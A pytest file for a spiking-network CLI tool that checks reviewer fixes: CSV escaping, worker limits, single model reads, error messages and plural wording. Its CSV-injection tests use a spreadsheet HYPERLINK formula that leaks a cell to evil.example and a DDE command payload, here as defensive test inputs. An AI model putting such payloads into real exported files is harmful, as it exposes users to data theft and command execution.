"""Leftovers found by reviewers: CSV injection in analyze, sweep --workers bound, export reading
the model once, messages for a readout without classes, plurals in CLI summaries."""

import csv

import numpy as np
import pytest

from helpers import chain, layer
from spikelut.cli import main
from spikelut.escape import csv_cell
from spikelut.io import save_model, save_spikes

IN = -1


def cli(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


# ---------------------------------------------------------------------------- 1. CSV injection
def test_csv_cell_quotes_formula_starts_and_keeps_other_values():
    for bad in ("=1+2", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://e","c")'):
        assert csv_cell(bad) == "'" + bad
    # a leading tab or CR is shown as its escape, which no spreadsheet reads as a formula
    assert (csv_cell("\tx"), csv_cell("\rx")) == ("\\tx", "\\rx")
    for good in ("L0", "hidden layer", "1-2", "a=b", ""):
        assert csv_cell(good) == good
    for value in (-1, -1.5, 0.0, True, None):
        assert csv_cell(value) is value


def test_analyze_nodes_csv_neutralises_layer_names_that_are_formulas(tmp_path, capsys):
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "-cmd|' /C calc'!A0"]
    hid = layer([[(IN, 0, 0), (IN, 1, 0)]] * 2, [0, 1, 1, 0], name=names[0])
    out = layer([[(0, 0, 0), (0, 1, 0)]] * 2, [0, 1, 1, 1], name=names[1])
    net = chain(2, [hid, out], classes=2)
    save_model(net, tmp_path / "m.h5")
    x = (np.random.default_rng(0).random((6, 4, 2)) < 0.5).astype(np.uint8)
    save_spikes(tmp_path / "d.h5", x, labels=np.zeros(4, np.int64))
    code, _, err = cli(capsys, "analyze", tmp_path / "m.h5", tmp_path / "d.h5",
                       "-o", tmp_path / "an")
    assert code == 0, err
    with open(tmp_path / "an" / "nodes.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["layer_name"] for r in rows] == ["'" + names[0]] * 2 + ["'" + names[1]] * 2
    # numbers stay numbers, other text stays as it was
    assert [r["layer"] for r in rows] == ["0", "0", "1", "1"]
    assert rows[0]["bias"] == "0.5" and rows[0]["constant"] == "False"
    assert rows[0]["influence"] == "1 1"
    # no cell of the file starts a formula
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())


# ---------------------------------------------------------------------------- 2. sweep --workers
def _space(tmp_path):
    from test_sweep import write_space

    return write_space(tmp_path / "s.toml", verify=0)


@pytest.mark.parametrize("cpus, workers, top", [(2, 500, 8), (2, 9, 8), (16, 65, 64)])
def test_sweep_refuses_more_workers_than_the_machine_runs(tmp_path, capsys, monkeypatch,
                                                          cpus, workers, top):
    import spikelut.sweep.run as run_mod

    started = []
    monkeypatch.setattr(run_mod, "usable_cpus", lambda: cpus)
    monkeypatch.setattr(run_mod, "run_workers", lambda *a, **k: started.append(a))
    out = tmp_path / "o"
    code = main(["sweep", str(_space(tmp_path)), "-o", str(out), "--workers", str(workers),
                 "--trials", "1000"])
    assert code == 1
    assert capsys.readouterr().err == (
        f"spikelut sweep: error: --workers {workers} is more than this machine can run: at most "
        f"{top} (4 per CPU, {cpus} CPUs); ask for fewer, or start the command on more machines "
        f"with one shared --storage (docs/sweep.md)\n")
    assert not out.exists() and not started  # no file, no process


def test_sweep_workers_bound_keeps_the_documented_eight_on_one_cpu(tmp_path, capsys, monkeypatch):
    import spikelut.sweep.run as run_mod

    monkeypatch.setattr(run_mod, "usable_cpus", lambda: 1)
    assert run_mod.max_workers() == 8
    monkeypatch.setattr(run_mod, "usable_cpus", lambda: 3)
    assert run_mod.max_workers() == 12
    monkeypatch.setattr(run_mod, "usable_cpus", lambda: 1)
    # docs/sweep.md's many-machine command uses --workers 8: allowed on a 1-CPU machine
    out = tmp_path / "o"
    code = main(["sweep", str(_space(tmp_path)), "-o", str(out), "--workers", "8",
                 "--trials", "0"])
    assert code == 0, capsys.readouterr().err
    assert (out / "report.json").is_file()


# ---------------------------------------------------------------------------- 3. export reads once
def test_export_reads_the_model_file_once(tmp_path, capsys, monkeypatch):
    pytest.importorskip("onnx")
    import spikelut.cli.cmd_export as cmd_export
    import spikelut.io as io
    from spikelut.api import export_onnx
    from spikelut.wiring import random_network

    net = random_network(3, n_in=4, sizes=[10, 4], k=4, refractory=1, classes=2)
    save_model(net, tmp_path / "m.h5")
    reads = []
    real = io.load_model

    def counting(path, *a, **k):
        reads.append(str(path))
        return real(path, *a, **k)

    monkeypatch.setattr(io, "load_model", counting)  # what api.export_onnx imports
    monkeypatch.setattr(cmd_export, "load_model", counting)
    code, out, err = cli(capsys, "export", tmp_path / "m.h5", "-o", tmp_path / "m.onnx")
    assert code == 0, err
    assert reads == [str(tmp_path / "m.h5")]
    # the same graph as before: what the API writes from the file
    monkeypatch.setattr(io, "load_model", real)
    info = export_onnx(tmp_path / "m.h5", tmp_path / "api.onnx")
    assert (tmp_path / "m.onnx").read_bytes() == (tmp_path / "api.onnx").read_bytes()
    assert out == (f"wrote {tmp_path / 'm.onnx'}: ONNX opset 17, {info['nodes']} operators, "
                   f"{info['bytes']} bytes; one cycle per call, state [B, 2, 18] uint8\n")


# ---------------------------------------------------------------------------- 4. no "0..-1"
@pytest.mark.parametrize("classes, has", [
    (0, "no classes"), (1, "1 class (label 0)"), (3, "3 classes (labels 0..2)")])
def test_label_message_is_right_for_a_readout_of_0_or_1_classes(classes, has):
    from spikelut.errors import ShapeError
    from spikelut.metrics import check_scorable, scoring_problem
    from spikelut.network import Readout

    r = Readout(0, [-1], classes)  # a bare Readout (API): not validated by a Network
    msg = f"label 3 is out of range: the readout has {has}; set [readout] classes to match the data"
    assert scoring_problem(r, 5, np.array([3, 0])) == msg
    with pytest.raises(ShapeError) as e:
        check_scorable(r, 5, np.array([3]), "d.h5")
    assert str(e.value) == f"d.h5: {msg}"


@pytest.mark.parametrize("B, has", [(0, "no samples"), (1, "1 sample (0)"),
                                    (4, "4 samples (0..3)")])
def test_analysis_sample_message_is_right_for_0_or_1_samples(B, has):
    from spikelut.analysis import run_analysis
    from spikelut.errors import ConfigError
    from spikelut.wiring import random_network

    net = random_network(0, n_in=2, sizes=[3], k=2)
    with pytest.raises(ConfigError) as e:
        run_analysis(net, np.zeros((4, B, 2), np.uint8), samples=(5,))
    assert str(e.value) == f"sample 5 out of range: the data has {has}"


# ---------------------------------------------------------------------------- 5. plurals
def test_summaries_of_one_sample_cycle_lut_are_singular(tmp_path, capsys):
    from helpers import TESTS

    osc, stim, res = tmp_path / "osc.h5", tmp_path / "s.h5", tmp_path / "r.h5"
    code, out, _ = cli(capsys, "init", TESTS.parent / "demos" / "oscillator.toml", "-o", osc)
    assert out == f"wrote {osc}: 1 layer, 1 LUT node, 1 flip-flop, 1 input\n"
    code, out, _ = cli(capsys, "info", osc)
    lines = out.splitlines()
    assert lines[0] == f"{osc}: 1 input, 1 layer, 1 LUT, 1 flip-flop"
    assert lines[-1] == "readout: layer 0 (osc), 1 class, 1 counted node, counting from cycle 0"
    assert cli(capsys, "stimulus", osc, "--steps", 1, "--batch", 1, "--rate", 1.0,
               "-o", stim)[0] == 0
    code, out, err = cli(capsys, "simulate", osc, stim, "-o", res)
    assert (code, err) == (0, "")
    assert out.splitlines()[0] == f"simulated 1 sample x 1 cycle -> {res}"
    code, out, err = cli(capsys, "rtl", osc, "-o", tmp_path / "rtl", "--steps", 1)
    assert code == 0, err
    lines = out.splitlines()
    assert "(wrapper, 1 cycle per sample: from --steps)" in lines[0]
    assert lines[1] == "LUTs 1 (LUT2 1), flip-flops 1, depth 1 LUT level"
    assert lines[2].endswith("(<= 0 extra LUTs)")


# ---------------------------------------------------------------------------- follow-ups
@pytest.mark.parametrize("command", [["raster"], ["plot", "table"]])
def test_max_nodes_zero_names_the_option(tmp_path, capsys, command):
    """The library's 'max_nodes must be >= 1, got 0' named a Python parameter, not the flag."""
    from pathlib import Path

    osc = Path(__file__).resolve().parents[1] / "demos" / "oscillator.toml"
    m, s, r = tmp_path / "m.h5", tmp_path / "s.h5", tmp_path / "r.h5"
    assert main(["init", str(osc), "-o", str(m)]) == 0
    assert main(["stimulus", str(m), "--steps", "4", "-o", str(s)]) == 0
    assert main(["simulate", str(m), str(s), "-o", str(r)]) == 0
    capsys.readouterr()
    with pytest.raises(SystemExit) as e:
        main([*command, str(r), "--model", str(m), "--max-nodes", "0", "-o", str(tmp_path / "x.png")])
    assert e.value.code == 2
    assert capsys.readouterr().err.splitlines()[-1] == (
        f"spikelut {' '.join(command)}: error: argument --max-nodes: must be an integer >= 1, got 0")


def test_a_result_whose_counts_have_no_columns_says_so(tmp_path):
    """'entries must be classes 0..-1' for a readout without classes."""
    from spikelut.errors import FileFormatError
    from spikelut.io.results import _check_result_values

    with pytest.raises(FileFormatError) as e:
        _check_result_values(tmp_path / "r.h5", [], np.zeros((2, 0), np.int32),
                             np.zeros(2, np.int32))
    assert str(e.value) == (f"{tmp_path / 'r.h5'}: /readout/pred: entries name classes, but "
                            f"/readout/counts has no columns (no classes)")


def test_load_result_sample_is_public():
    import spikelut
    import spikelut.io

    assert spikelut.load_result_sample is spikelut.io.load_result_sample
    assert "load_result_sample" in spikelut.__all__
